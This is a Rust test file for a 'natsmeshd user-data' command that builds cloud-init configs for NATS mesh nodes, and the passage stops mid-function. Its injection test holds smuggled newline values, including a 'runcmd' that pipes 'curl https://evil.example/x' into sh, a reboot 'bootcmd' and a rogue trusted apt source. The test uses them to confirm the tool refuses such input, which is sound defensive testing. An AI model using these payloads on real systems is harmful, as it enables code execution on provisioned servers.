//! `natsmeshd user-data`: what it prints passes `cloud-init schema`
//! (Debian's cloud-init), writes natsmesh's drop-in (valid against the
//! schema) and the secrets root-only where the packaged unit loads them,
//! installs natsmesh from its signed repository, and says what it exposes.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::NATSMESHD;
use common::pki::Pki;

/// The domain [`Pki`]'s intermediates are made for.
const DOMAIN: &str = "nats.test";

fn chmod(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

struct Inputs {
    pki: Pki,
}

impl Inputs {
    /// A root, the fra1 intermediate of domain `nats.test` (the PKI
    /// helper's), an apt key and two tokens.
    fn new() -> Self {
        Self::with_intermediate(&[])
    }

    /// The same, the intermediate made with more `ca intermediate`
    /// arguments.
    fn with_intermediate(more: &[&str]) -> Self {
        let pki = Pki::new();
        pki.root("root")
            .intermediate_with("root", "fra1", "inter", more);
        let p = pki.path("");
        // Only the armour's shape is checked; no key needs to be real here.
        std::fs::write(
            p.join("key.asc"),
            "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmDMEZ0test\n-----END PGP PUBLIC KEY BLOCK-----\n",
        )
        .unwrap();
        for (name, token) in [
            ("dns.tok", "dop_v1_dns-token-for-the-zone\n"),
            ("lb.tok", "dop_v1_lb-token-for-the-balancer\n"),
        ] {
            std::fs::write(p.join(name), token).unwrap();
            // Secrets are their owner's alone, or user-data refuses them.
            chmod(&p.join(name), 0o600);
        }
        Self { pki }
    }

    fn run(&self, extra: &[&str]) -> Output {
        let mut args = vec![
            "--apt-url",
            "https://apt.example.com/natsmesh",
            "--apt-key",
            "key.asc",
        ];
        args.extend_from_slice(extra);
        self.run_without_repository(&args)
    }

    fn run_without_repository(&self, extra: &[&str]) -> Output {
        let mut args = vec![
            "user-data",
            "--region",
            "fra1",
            "--domain",
            DOMAIN,
            "--roots",
            "root/root.crt",
            "--intermediate-cert",
            "inter/fra1.crt",
            "--intermediate-key",
            "inter/fra1.key",
        ];
        args.extend_from_slice(extra);
        Command::new(NATSMESHD)
            .args(&args)
            .current_dir(self.path(""))
            .output()
            .unwrap()
    }

    fn path(&self, rel: &str) -> std::path::PathBuf {
        self.pki.path(rel)
    }
}

fn schema_ok(dir: &Path, text: &str) {
    natsmesh_harness::require_tools(&["cloud-init"], "cloud-init");
    let file = dir.join("user-data.yaml");
    std::fs::write(&file, text).unwrap();
    let out = Command::new("cloud-init")
        .args(["schema", "--config-file"])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "cloud-init schema: {}{}\n{text}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

fn file<'a>(doc: &'a serde_norway::Value, path: &str) -> &'a serde_norway::Value {
    doc["write_files"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|f| f["path"].as_str() == Some(path))
        .unwrap_or_else(|| panic!("no {path} in write_files"))
}

/// A successful run's user-data: schema-checked, parsed, and its drop-in
/// read against natsmesh's schema.
fn valid(
    inputs: &Inputs,
    out: Output,
) -> (
    String,
    serde_norway::Value,
    natsmesh::config::schema::RawConfig,
) {
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("#cloud-config\n"), "{text}");
    schema_ok(&inputs.path(""), &text);
    let doc: serde_norway::Value = serde_norway::from_str(&text).unwrap();
    let raw = toml::from_str(
        file(&doc, "/etc/natsmesh/natsmesh.d/10-node.toml")["content"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    // natsmeshd's own loader takes every drop-in it writes, merged.
    loaded_dropins(&doc);
    (text, doc, raw)
}

#[test]
fn digitalocean_user_data_is_valid_cloud_config_with_root_only_secrets() {
    let inputs = Inputs::new();
    let out = inputs.run(&[
        "--provider",
        "digitalocean",
        "--dns",
        "digitalocean",
        "--dns-token",
        "dns.tok",
        "--lb-id",
        "4de7ac8b-495b-4884-9a69-1050c6793cd6",
        "--lb-token",
        "lb.tok",
    ]);
    let said = String::from_utf8(out.stderr.clone()).unwrap();
    let (text, doc, raw) = valid(&inputs, out);
    // The node's settings: a drop-in natsmesh reads, every key known.
    let dropin = file(&doc, "/etc/natsmesh/natsmesh.d/10-node.toml");
    assert_eq!(dropin["permissions"].as_str(), Some("0644"));
    assert_eq!(raw.node.region.as_deref(), Some("fra1"));
    assert_eq!(raw.node.domain.as_deref(), Some(DOMAIN));
    assert_eq!(
        raw.node.provider,
        natsmesh::config::schema::Provider::DigitalOcean
    );
    assert!(raw.discovery.enabled && raw.broker.cluster.enabled && raw.broker.gateway.enabled);
    assert_eq!(raw.discovery.bootstrap_expect, 3);
    // JetStream's limits, which natsmesh requires, have defaults.
    assert!(
        raw.broker.jetstream.max_file_store.is_some()
            && raw.broker.jetstream.max_memory_store.is_some()
    );
    assert_eq!(
        raw.load_balancer.token_file.as_deref(),
        Some(Path::new("lb-token"))
    );
    // Secrets: root-only, where the unit loads credentials, byte for byte.
    for (name, source) in [
        ("intermediate.key", "inter/fra1.key"),
        ("intermediate.crt", "inter/fra1.crt"),
        ("dns-token", "dns.tok"),
        ("lb-token", "lb.tok"),
    ] {
        let f = file(&doc, &format!("/etc/natsmesh/credentials/{name}"));
        assert_eq!(f["permissions"].as_str(), Some("0600"), "{name}");
        assert_eq!(f["owner"].as_str(), Some("root:root"), "{name}");
        assert_eq!(
            f["content"].as_str().unwrap(),
            std::fs::read_to_string(inputs.path(source)).unwrap(),
            "{name}"
        );
    }
    assert_eq!(
        file(&doc, "/etc/natsmesh/roots.pem")["content"]
            .as_str()
            .unwrap(),
        std::fs::read_to_string(inputs.path("root/root.crt")).unwrap()
    );
    // The root's key never goes anywhere near a node.
    let root_key = std::fs::read_to_string(inputs.path("root/root.key")).unwrap();
    assert!(!text.contains(root_key.trim()));
    // natsmesh from its signed repository.
    let source = &doc["apt"]["sources"]["natsmesh.list"];
    assert_eq!(
        source["source"].as_str(),
        Some("deb [signed-by=$KEY_FILE] https://apt.example.com/natsmesh ./")
    );
    assert!(
        source["key"]
            .as_str()
            .unwrap()
            .contains("BEGIN PGP PUBLIC KEY BLOCK")
    );
    assert_eq!(doc["packages"][0].as_str(), Some("natsmesh"));
    // What it exposes is said, on stderr, never mixed into the YAML.
    assert!(
        said.contains("169.254.169.254") && said.contains("the DNS token"),
        "{said}"
    );
    assert!(!said.contains("dop_v1_"), "a token on stderr: {said}");
}

#[test]
fn linode_and_nocloud_user_data_are_valid_and_nocloud_needs_its_identity() {
    let inputs = Inputs::new();
    let linode = inputs.run(&[
        "--provider",
        "linode",
        "--lb-id",
        "12345",
        "--lb-token",
        "lb.tok",
    ]);
    let (_, _, raw) = valid(&inputs, linode);
    assert_eq!(
        raw.node.provider,
        natsmesh::config::schema::Provider::Linode
    );
    assert_eq!(raw.load_balancer.id.as_deref(), Some("12345"));
    assert_eq!(
        raw.load_balancer.backend,
        natsmesh::config::schema::LbBackend::Private
    );

    // A VPC backend: its subnet, and clients accepted where the VPC
    // address will be.
    let vpc = inputs.run(&[
        "--provider",
        "linode",
        "--lb-id",
        "12345",
        "--lb-token",
        "lb.tok",
        "--lb-vpc-subnet",
        "101",
    ]);
    let (_, _, raw) = valid(&inputs, vpc);
    assert_eq!(
        raw.load_balancer.backend,
        natsmesh::config::schema::LbBackend::Vpc
    );
    assert_eq!(raw.load_balancer.subnet_id, Some(101));
    assert_eq!(raw.broker.client.bind.to_string(), "any");
    let droplet = inputs.run(&[
        "--provider",
        "digitalocean",
        "--lb-id",
        "4de7ac8b-495b-4884-9a69-1050c6793cd6",
        "--lb-token",
        "lb.tok",
        "--lb-vpc-subnet",
        "101",
    ]);
    assert!(!droplet.status.success(), "{droplet:?}");
    assert!(
        String::from_utf8_lossy(&droplet.stderr).contains("for Linode NodeBalancers"),
        "{droplet:?}"
    );

    let missing = inputs.run(&["--provider", "nocloud"]);
    assert!(!missing.status.success());
    assert!(
        String::from_utf8_lossy(&missing.stderr).contains("--name and --private-address"),
        "{missing:?}"
    );
    let nocloud = inputs.run(&[
        "--provider",
        "nocloud",
        "--name",
        "node-1",
        "--private-address",
        "10.251.0.1",
    ]);
    let (_, _, raw) = valid(&inputs, nocloud);
    assert_eq!(raw.node.name.as_deref(), Some("node-1"));
    assert_eq!(
        raw.node.private_address,
        Some(std::net::Ipv4Addr::new(10, 251, 0, 1))
    );
    // A balancer needs a provider's machine.
    let lb = inputs.run(&[
        "--provider",
        "nocloud",
        "--name",
        "node-1",
        "--private-address",
        "10.251.0.1",
        "--lb-id",
        "x",
        "--lb-token",
        "lb.tok",
    ]);
    assert!(!lb.status.success(), "{lb:?}");
}

#[test]
fn appliance_user_data_installs_nothing_and_names_the_api_proxies() {
    let inputs = Inputs::new();
    let out = inputs.run_without_repository(&[
        "--provider",
        "digitalocean",
        "--appliance",
        "--dns",
        "digitalocean",
        "--dns-token",
        "dns.tok",
        "--dns-api-url",
        "https://egress.example.com/do",
        "--lb-id",
        "4de7ac8b-495b-4884-9a69-1050c6793cd6",
        "--lb-token",
        "lb.tok",
        "--lb-api-url",
        "https://egress.example.com/do-lb",
    ]);
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    let (_, doc, raw) = valid(&inputs, out);
    // natsmesh comes with the image: no source, no package, no apt run.
    for key in ["apt", "packages", "package_update"] {
        assert!(doc.get(key).is_none(), "{key} in appliance user-data");
    }
    assert!(said.contains("comes with the appliance image"), "{said}");
    // The image reboots for OS updates through the maintenance lease.
    assert_eq!(
        raw.maintenance.reboot,
        natsmesh::config::schema::RebootMode::Coordinated
    );
    assert_eq!(
        raw.dns_publish.api_url.as_deref(),
        Some("https://egress.example.com/do")
    );
    assert_eq!(
        raw.load_balancer.api_url.as_deref(),
        Some("https://egress.example.com/do-lb")
    );
    // Neither a repository nor the appliance; or both: refused.
    let neither = inputs.run_without_repository(&["--provider", "digitalocean"]);
    assert!(!neither.status.success(), "{neither:?}");
    assert!(
        String::from_utf8_lossy(&neither.stderr).contains("--apt-url"),
        "{neither:?}"
    );
    let both = inputs.run(&["--provider", "digitalocean", "--appliance"]);
    assert!(!both.status.success(), "{both:?}");
}

/// An attacker's arguments (a newline that would end the header comment
/// and start a key, or a second apt source line): refused with exit 2,
/// naming the argument, and nothing printed.
#[test]
fn injected_region_domain_and_apt_url_are_refused_before_anything_is_printed() {
    let inputs = Inputs::new();
    let attacks: [(&str, &str, &str); 4] = [
        (
            "--region",
            "fra1\nruncmd: [[sh, -c, \"curl https://evil.example/x|sh\"]]\n#",
            "--region",
        ),
        ("--domain", "nats.test\nbootcmd: [[reboot]]", "--domain"),
        (
            "--apt-url",
            "https://apt.example.com/natsmesh ./\ndeb [trusted=yes] https://evil.example/apt",
            "--apt-url",
        ),
        (
            "--dns-api-url",
            "https://egress.example.com/do\n#",
            "--dns-api-url",
        ),
    ];
    // Every argument the command takes as text, good, as an operator types
    // them; each attack replaces one.
    let good = [
        ("--provider", "digitalocean"),
        ("--region", "fra1"),
        ("--domain", DOMAIN),
        ("--roots", "root/root.crt"),
        ("--intermediate-cert", "inter/fra1.crt"),
        ("--intermediate-key", "inter/fra1.key"),
        ("--apt-url", "https://apt.example.com/natsmesh"),
        ("--apt-key", "key.asc"),
        ("--dns", "digitalocean"),
        ("--dns-token", "dns.tok"),
        ("--dns-api-url", "https://egress.example.com/do"),
    ];
    let run = |flag: &str, value: &str| {
        let mut args = vec!["user-data"];
        for (f, v) in good {
            args.extend([f, if f == flag { value } else { v }]);
        }
        Command::new(NATSMESHD)
            .args(&args)
            .current_dir(inputs.path(""))
            .output()
            .unwrap()
    };
    let ok = run("", "");
    assert!(ok.status.success(), "{ok:?}");
    for (flag, value, named) in attacks
        .into_iter()
        .chain([("--region", "../x", "--region")])
    {
        let out = run(flag, value);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{flag}: {out:?}");
        assert!(out.stdout.is_empty(), "{flag}: printed {out:?}");
        assert!(err.contains(named), "{flag}: {err}");
        // The value is quoted, escaped: the refusal is one line.
        assert_eq!(err.trim_end().lines().count(), 1, "{flag}: {err}");
    }
}

/// The drop-ins a run writes, read by natsmeshd's own loader as the node
/// will: found in a `natsmesh.d/`, each checked against the schema and
/// merged in order.
fn loaded_dropins(doc: &serde_norway::Value) -> natsmesh::config::Loaded {
    use natsmesh::config::load;
    let etc = tempfile::tempdir().unwrap();
    std::fs::create_dir(etc.path().join("natsmesh.d")).unwrap();
    let mut n = 0;
    for f in doc["write_files"].as_sequence().unwrap() {
        let path = f["path"].as_str().unwrap();
        if let Some(name) = path.strip_prefix("/etc/natsmesh/natsmesh.d/") {
            std::fs::write(
                etc.path().join("natsmesh.d").join(name),
                f["content"].as_str().unwrap(),
            )
            .unwrap();
            n += 1;
        }
    }
    let sources = load::discover_at(&etc.path().join("natsmesh.toml")).unwrap();
    let natsmesh::config::Sources::Files { files, .. } = &sources else {
        panic!("no drop-in found");
    };
    assert_eq!(files.len(), n);
    load::load(&sources).unwrap_or_else(|e| panic!("{e:?}"))
}

/// `natsmeshd user add` into `file`, as an operator runs it.
fn user_add(dir: &Path, args: &[&str], file: &str) {
    let out = Command::new(NATSMESHD)
        .args(["user", "add"])
        .args(args)
        .args(["--file", file])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
}

#[test]
fn accounts_client_names_metrics_and_advertise_travel_with_the_node() {
    // An intermediate that also permits a global name clients use.
    let inputs = Inputs::with_intermediate(&["--permit-name", "nats.example.com"]);
    let dir = inputs.path("");
    user_add(
        &dir,
        &["--account", "APP", "--name", "app", "--publish", "orders.>"],
        "users.toml",
    );
    user_add(
        &dir,
        &["--account", "APP", "--nkey", "--name", "svc"],
        "users.toml",
    );
    user_add(&dir, &["--account", "OPS", "--name", "ops"], "users.toml");
    let out = inputs.run(&[
        "--provider",
        "digitalocean",
        "--lb-id",
        "4de7ac8b-495b-4884-9a69-1050c6793cd6",
        "--lb-token",
        "lb.tok",
        "--accounts",
        "users.toml",
        "--client-name",
        "nats.example.com",
        "--client-name",
        "lb.fra1.nats.test",
        "--metrics-bind",
        "private",
    ]);
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    let (_, doc, _) = valid(&inputs, out);
    assert!(said.contains("20-accounts.toml"), "{said}");
    // The accounts drop-in: what `user add` wrote, byte for byte, read by
    // natsmeshd as its own user.
    let f = file(&doc, "/etc/natsmesh/natsmesh.d/20-accounts.toml");
    assert_eq!(
        f["content"].as_str().unwrap(),
        std::fs::read_to_string(dir.join("users.toml")).unwrap()
    );
    assert_eq!(f["permissions"].as_str(), Some("0644"));
    assert_eq!(f["owner"].as_str(), Some("root:root"));
    let loaded = loaded_dropins(&doc);
    let raw = &loaded.raw;
    assert_eq!(
        raw.accounts.keys().collect::<Vec<_>>(),
        ["APP", "OPS"],
        "{:?}",
        raw.accounts
    );
    let app = &raw.accounts["APP"].users;
    assert_eq!(app.len(), 2);
    assert_eq!(app[0].name.as_deref(), Some("app"));
    assert!(app[0].password_hash.as_deref().unwrap().starts_with("$2"));
    assert_eq!(app[0].publish, ["orders.>"]);
    assert!(app[1].nkey.as_deref().unwrap().starts_with('U'));
    // The names clients use, in the node certificate's names.
    assert_eq!(
        raw.tls.extra_names,
        ["nats.example.com", "lb.fra1.nats.test"]
    );
    assert_eq!(raw.metrics.bind, natsmesh::config::bind::Bind::Private);
    // Behind the balancer, nothing of the servers' own is advertised.
    assert_eq!(raw.broker.client.advertise.as_deref(), Some("none"));

    // Told otherwise, it advertises as told; with no balancer, only when
    // told.
    let advertise = |extra: &[&str]| {
        let out = inputs.run(&[&["--provider", "digitalocean"][..], extra].concat());
        let (_, doc, _) = valid(&inputs, out);
        loaded_dropins(&doc).raw.broker.client.advertise
    };
    let lb = [
        "--lb-id",
        "4de7ac8b-495b-4884-9a69-1050c6793cd6",
        "--lb-token",
        "lb.tok",
    ];
    assert_eq!(
        advertise(&[&lb[..], &["--client-advertise", "auto"]].concat()).as_deref(),
        Some("auto")
    );
    assert_eq!(advertise(&[]), None);
    assert_eq!(
        advertise(&["--client-advertise", "nats.example.com:4222"]).as_deref(),
        Some("nats.example.com:4222")
    );
}

#[test]
fn a_bad_accounts_file_client_name_metrics_bind_or_advertise_is_refused_by_name() {
    let inputs = Inputs::new();
    let dir = inputs.path("");
    user_add(&dir, &["--account", "APP", "--name", "app"], "users.toml");
    let good = std::fs::read_to_string(dir.join("users.toml")).unwrap();
    for (name, text) in [
        ("typo.toml", format!("{good}passwrd = \"x\"\n")),
        ("node.toml", format!("{good}\n[broker]\ndebug = true\n")),
        (
            "hash.toml",
            "[[accounts.APP.users]]\nname = \"a\"\npassword_hash = \"secret\"\n".to_owned(),
        ),
        ("sys.toml", good.replace("accounts.APP.", "accounts.SYS.")),
        ("empty.toml", String::new()),
        ("broken.toml", format!("{good}[[accounts.APP.users]\n")),
    ] {
        std::fs::write(dir.join(name), text).unwrap();
    }
    #[rustfmt::skip]
    let rows: [(&[&str], &[&str]); 10] = [
        (&["--accounts", "typo.toml"], &["--accounts", "typo.toml:", "accounts.APP.users[0].passwrd", "unknown key"]),
        (&["--accounts", "node.toml"], &["--accounts", "\"broker\"", "[accounts.*] tables only"]),
        (&["--accounts", "hash.toml"], &["--accounts", "hash.toml:3:", "accounts.APP.users[0].password_hash", "bcrypt"]),
        (&["--accounts", "sys.toml"], &["--accounts", "accounts.SYS", "reserved"]),
        (&["--accounts", "empty.toml"], &["--accounts", "no [accounts.*]"]),
        (&["--accounts", "broken.toml"], &["--accounts", "broken.toml:"]),
        (&["--client-name", "nats.example.com"], &["--client-name", "--permit-name nats.example.com"]),
        (&["--client-name", "nats example"], &["--client-name"]),
        (&["--metrics-bind", "privat"], &["--metrics-bind", "loopback"]),
        (&["--client-advertise", "nats.example.com"], &["--client-advertise", "no port"]),
    ];
    for (extra, named) in rows {
        let out = inputs.run(&[&["--provider", "digitalocean"][..], extra].concat());
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{extra:?}: {out:?}");
        assert!(out.stdout.is_empty(), "{extra:?}: printed {out:?}");
        for n in named {
            assert!(err.contains(n), "{extra:?}: {n:?} not in {err}");
        }
        assert_eq!(err.trim_end().lines().count(), 1, "{extra:?}: {err}");
    }
    // The good file passes.
    let out = inputs.run(&["--provider", "digitalocean", "--accounts", "users.toml"]);
    assert!(out.status.success(), "{out:?}");
}

/// A refusal: what it is, the arguments changed, what stderr must name.
type Row<'a> = (&'a str, Vec<(&'a str, &'a str)>, &'a [&'a str]);

/// What would fail on the droplet is refused on the operator's machine:
/// one row per refusal, each with exit 2, the argument (or the limit)
/// named on stderr and nothing on stdout. Every row's PKI is real.
#[test]
fn what_would_fail_on_the_droplet_is_refused_by_name() {
    let inputs = Inputs::new();
    let pki = &inputs.pki;
    // Another region's intermediate, another root's fra1 intermediate, and
    // a fra1 intermediate with 10 days left.
    pki.intermediate("root", "nyc3", "inter")
        .root("other")
        .intermediate("other", "fra1", "other-inter")
        .intermediate_with("root", "fra1", "short", &["--validity", "10days"]);
    let p = inputs.path("");
    for (name, mode) in [
        ("loose.key", 0o640),
        ("dns-loose.tok", 0o644),
        ("lb-loose.tok", 0o604),
    ] {
        let from = if name.ends_with(".key") {
            "inter/fra1.key"
        } else {
            "lb.tok"
        };
        std::fs::copy(p.join(from), p.join(name)).unwrap();
        chmod(&p.join(name), mode);
    }
    // Armoured keys too big for the providers' limits.
    let armoured = |kib: usize| {
        format!(
            "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n{}-----END PGP PUBLIC KEY BLOCK-----\n",
            "mDMEZ0testAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n".repeat(kib * 16)
        )
    };
    std::fs::write(p.join("big.asc"), armoured(66)).unwrap();
    std::fs::write(p.join("12k.asc"), armoured(12)).unwrap();

    let good: Vec<(&str, &str)> = vec![
        ("--provider", "digitalocean"),
        ("--region", "fra1"),
        ("--domain", DOMAIN),
        ("--roots", "root/root.crt"),
        ("--intermediate-cert", "inter/fra1.crt"),
        ("--intermediate-key", "inter/fra1.key"),
        ("--apt-url", "https://apt.example.com/natsmesh"),
        ("--apt-key", "key.asc"),
        ("--dns", "digitalocean"),
        ("--dns-token", "dns.tok"),
        ("--lb-id", "4de7ac8b-495b-4884-9a69-1050c6793cd6"),
        ("--lb-token", "lb.tok"),
    ];
    let run = |changes: &[(&str, &str)]| {
        let mut args = vec!["user-data"];
        for (flag, value) in &good {
            let value = changes
                .iter()
                .find(|(f, _)| f == flag)
                .map_or(*value, |(_, v)| *v);
            args.extend([*flag, value]);
        }
        for (flag, value) in changes {
            if !good.iter().any(|(f, _)| f == flag) {
                args.extend([*flag, *value]);
            }
        }
        Command::new(NATSMESHD)
            .args(&args)
            .current_dir(inputs.path(""))
            .output()
            .unwrap()
    };
    let ok = run(&[]);
    assert!(ok.status.success(), "{ok:?}");
    let linode = [("--provider", "linode"), ("--dns", "linode")];
    #[rustfmt::skip]
    let rows: Vec<Row> = vec![
        ("the root's certificate and key as the intermediate",
         vec![("--intermediate-cert", "root/root.crt"), ("--intermediate-key", "root/root.key")],
         &["--intermediate-cert", "self-signed"]),
        ("the root's key with the intermediate's certificate",
         vec![("--intermediate-key", "root/root.key")],
         &["--intermediate-key", "key of a root"]),
        ("another intermediate's key",
         vec![("--intermediate-key", "inter/nyc3.key")],
         &["--intermediate-key", "does not belong"]),
        ("nyc3's intermediate for fra1",
         vec![("--intermediate-cert", "inter/nyc3.crt"), ("--intermediate-key", "inter/nyc3.key")],
         &["--intermediate-cert", "nyc3.nats.test", "--region fra1"]),
        ("fra1's intermediate in another domain",
         vec![("--domain", "nats.example.com")],
         &["--intermediate-cert", "not fra1.nats.example.com"]),
        ("an intermediate of another root",
         vec![("--intermediate-cert", "other-inter/fra1.crt"), ("--intermediate-key", "other-inter/fra1.key")],
         &["--intermediate-cert", "--roots"]),
        ("an intermediate with 10 days left",
         vec![("--intermediate-cert", "short/fra1.crt"), ("--intermediate-key", "short/fra1.key")],
         &["--intermediate-cert", "expires on", "at least 30"]),
        ("an upper-case region", vec![("--region", "FRA1")], &["--region", "\"FRA1\""]),
        ("a domain with an empty label", vec![("--domain", "nats..test")], &["--domain"]),
        ("a DigitalOcean balancer by name", vec![("--lb-id", "nats-fra1-lb")], &["--lb-id", "UUID"]),
        ("a NodeBalancer id that is not a number",
         [&linode[..], &[("--lb-id", "nb-fra1")]].concat(), &["--lb-id", "NodeBalancer"]),
        ("a NodeBalancer id of 0", [&linode[..], &[("--lb-id", "0")]].concat(), &["--lb-id"]),
        ("a bare G", vec![("--jetstream-store", "10G")], &["--jetstream-store", "unknown size unit"]),
        ("a group-readable intermediate key",
         vec![("--intermediate-key", "loose.key")], &["--intermediate-key", "0640", "chmod 600"]),
        ("a world-readable DNS token",
         vec![("--dns-token", "dns-loose.tok")], &["--dns-token", "0644", "chmod 600"]),
        ("a world-readable balancer token",
         vec![("--lb-token", "lb-loose.tok")], &["--lb-token", "0604", "chmod 600"]),
        ("over DigitalOcean's 64 KiB", vec![("--apt-key", "big.asc")], &["DigitalOcean", "65536 bytes"]),
        ("over Linode's 16 kB encoded",
         [&linode[..], &[("--lb-id", "12345"), ("--apt-key", "12k.asc")]].concat(),
         &["Linode", "16000 bytes base64-encoded"]),
    ];
    for (what, changes, named) in rows {
        let out = run(&changes);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{what}: {out:?}");
        assert!(out.stdout.is_empty(), "{what}: printed {out:?}");
        for n in named {
            assert!(err.contains(n), "{what}: {n:?} not in {err}");
        }
        assert_eq!(err.trim_end().lines().count(), 1, "{what}: {err}");
    }
    // Linode's good id, and a document under both limits, pass.
    let out = run(&[&linode[..], &[("--lb-id", "12345")]].concat());
    assert!(out.status.success(), "{out:?}");
}

mod property {
    //! Arbitrary strings in every string argument: the command refuses,
    //! naming the argument, or prints a cloud-config whose shape is exactly
    //! the expected one and which carries the value unchanged.

    use std::collections::{BTreeSet, HashMap};
    use std::path::PathBuf;
    use std::sync::Mutex;
    use std::time::{Duration, SystemTime};

    use natsmesh::config::validate::is_region_label;
    use natsmesh::tls::{issue, pki};

    use natsmesh::config::schema::RawConfig;
    use natsmesh::config::units::Size;
    use natsmesh::user_data::{DnsApi, Request, Target, render};
    use proptest::collection::vec;
    use proptest::prelude::*;

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Arg {
        Region,
        Domain,
        AptUrl,
        DnsApiUrl,
        LbApiUrl,
        LbId,
        Name,
        Nameserver,
        JetstreamMemory,
        JetstreamStore,
        ClientName,
        MetricsBind,
        ClientAdvertise,
    }

    const ARGS: [Arg; 13] = [
        Arg::Region,
        Arg::Domain,
        Arg::AptUrl,
        Arg::DnsApiUrl,
        Arg::LbApiUrl,
        Arg::LbId,
        Arg::Name,
        Arg::Nameserver,
        Arg::JetstreamMemory,
        Arg::JetstreamStore,
        Arg::ClientName,
        Arg::MetricsBind,
        Arg::ClientAdvertise,
    ];

    impl Arg {
        fn flag(self) -> &'static str {
            match self {
                Self::Region => "--region",
                Self::Domain => "--domain",
                Self::AptUrl => "--apt-url",
                Self::DnsApiUrl => "--dns-api-url",
                Self::LbApiUrl => "--lb-api-url",
                Self::LbId => "--lb-id",
                Self::Name => "--name",
                Self::Nameserver => "--nameserver",
                Self::JetstreamMemory => "--jetstream-memory",
                Self::JetstreamStore => "--jetstream-store",
                Self::ClientName => "--client-name",
                Self::MetricsBind => "--metrics-bind",
                Self::ClientAdvertise => "--client-advertise",
            }
        }

        /// A value that is accepted, for mixing with hostile pieces.
        fn good(self) -> &'static str {
            match self {
                Self::Region => "fra1",
                Self::Domain => "nats.example.com",
                Self::AptUrl => "https://apt.example.com/natsmesh",
                Self::DnsApiUrl => "https://egress.example.com/do",
                Self::LbApiUrl => "http://127.0.0.1:8080/lb",
                Self::LbId => "4de7ac8b-495b-4884-9a69-1050c6793cd6",
                Self::Name => "node-1",
                Self::Nameserver => "10.0.0.2:53",
                Self::JetstreamMemory => "1GiB",
                Self::JetstreamStore => "10GiB",
                // Below the region's name: the intermediate permits it
                // (varying the region or the domain moves it along).
                Self::ClientName => "lb.fra1.nats.example.com",
                Self::MetricsBind => "private",
                Self::ClientAdvertise => "nats.example.com:4222",
            }
        }
    }

    /// The input files that do not depend on the case, written once.
    fn files() -> &'static (tempfile::TempDir, PathBuf) {
        static FILES: std::sync::OnceLock<(tempfile::TempDir, PathBuf)> =
            std::sync::OnceLock::new();
        FILES.get_or_init(|| {
            let dir = tempfile::tempdir().unwrap();
            let p = dir.path().to_path_buf();
            std::fs::write(
                p.join("key.asc"),
                "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmDMEZ0test\n-----END PGP PUBLIC KEY BLOCK-----\n",
            )
            .unwrap();
            for (name, text) in [("dns.tok", "dns-token\n"), ("lb.tok", "lb-token\n")] {
                natsmesh::files::write_atomic(&p.join(name), text.as_bytes(), 0o600).unwrap();
            }
            (dir, p)
        })
    }

    /// A real root and an intermediate for `region` in `domain`, made
    /// with the library's own issuance once per pair (a few milliseconds):
    /// an accepted case is one a droplet would accept. A region or domain
    /// no intermediate can be made for gets fra1's in nats.example.com
    /// (the command must then refuse the region or the domain by name,
    /// before it looks at the PKI). Returns (roots, cert, key).
    fn pki(region: &str, domain: &str) -> (PathBuf, PathBuf, PathBuf) {
        type Cache = Mutex<HashMap<(String, String), (tempfile::TempDir, PathBuf)>>;
        static CACHE: std::sync::OnceLock<Cache> = std::sync::OnceLock::new();
        let make = |(region, domain): &(String, String)| {
            let now = SystemTime::now();
            let root = issue::root("property root", now, Duration::from_secs(3650 * 86400)).ok()?;
            let inter = issue::intermediate(
                &root,
                region,
                domain,
                &[],
                &issue::default_permitted_ranges(),
                now,
                Duration::from_secs(90 * 86400),
            )
            .ok()?;
            let dir = tempfile::tempdir().unwrap();
            let p = dir.path().to_path_buf();
            std::fs::write(p.join("roots.pem"), &root.cert_pem).unwrap();
            std::fs::write(p.join("inter.crt"), &inter.cert_pem).unwrap();
            natsmesh::files::write_atomic(&p.join("inter.key"), inter.key_pem.as_bytes(), 0o600)
                .unwrap();
            Some((dir, p))
        };
        let fallback = ("fra1".to_owned(), "nats.example.com".to_owned());
        let mut cache = CACHE
            .get_or_init(Mutex::default)
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        let mut key = if is_region_label(region) && natsmesh_broker::model::is_dns_name(domain) {
            (region.to_owned(), domain.to_owned())
        } else {
            fallback.clone()
        };
        if !cache.contains_key(&key) {
            match make(&key) {
                Some(made) => {
                    cache.insert(key.clone(), made);
                }
                None => {
                    key = fallback;
                    if !cache.contains_key(&key) {
                        let made = make(&key).unwrap();
                        cache.insert(key.clone(), made);
                    }
                }
            }
        }
        let p = &cache[&key].1;
        (
            p.join("roots.pem"),
            p.join("inter.crt"),
            p.join("inter.key"),
        )
    }

    /// A DigitalOcean node with every string argument set, or (for
    /// `--name`) a NoCloud one; `arg` set to `value`.
    fn request(arg: Arg, value: &str) -> Request {
        let p = &files().1;
        let nocloud = arg == Arg::Name;
        let (roots, inter_cert, inter_key) = match arg {
            Arg::Region => pki(value, Arg::Domain.good()),
            Arg::Domain => pki(Arg::Region.good(), value),
            _ => pki(Arg::Region.good(), Arg::Domain.good()),
        };
        let mut r = Request {
            provider: if nocloud {
                Target::Nocloud
            } else {
                Target::Digitalocean
            },
            region: Arg::Region.good().into(),
            domain: Arg::Domain.good().into(),
            apt_url: Some(Arg::AptUrl.good().into()),
